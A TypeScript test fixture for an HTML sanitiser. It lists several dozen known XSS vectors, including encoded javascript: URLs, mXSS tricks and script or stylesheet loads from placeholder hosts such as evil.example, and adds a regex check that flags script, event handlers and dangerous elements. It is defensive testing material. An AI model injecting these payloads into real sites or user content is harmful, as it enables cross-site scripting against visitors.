/**
 * Known XSS vectors (OWASP filter-evasion cheat sheet, html5sec.org, mXSS classics) and a check of
 * whether sanitised HTML could still run script: shared by every test of sanitised rich text.
 */
export const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  JAVASCRIPT:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/phish"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<video><source onerror="alert(1)"></video>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="#" onclick="alert(1)">x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<template><script>alert(1)</script></template>',
  '"><script>alert(1)</script>',
  '<img srcset="javascript:alert(1) 1x">',
  '<a href="//evil.example/">x</a>',
];

/** Whether sanitised HTML could still run script when rendered. */
export function runsScript(html: string): string | undefined {
  const checks: Array<[RegExp, string]> = [
    [/<\s*script/i, 'script element'],
    [/<\s*(iframe|object|embed|form|input|button|base|meta|link|style|svg|math|body|template|noscript)\b/i, 'dangerous element'],
    [/\son[a-z]+\s*=/i, 'event handler attribute'],
    [/(javascript|vbscript|data)\s*:/i, 'script URL'],
    [/expression\s*\(/i, 'CSS expression'],
    [/url\s*\(/i, 'CSS url()'],
    [/srcdoc/i, 'srcdoc'],
    [/href="\/\//i, 'protocol-relative link'],
  ];
  for (const [pattern, what] of checks) if (pattern.test(html)) return what;
  return undefined;
}
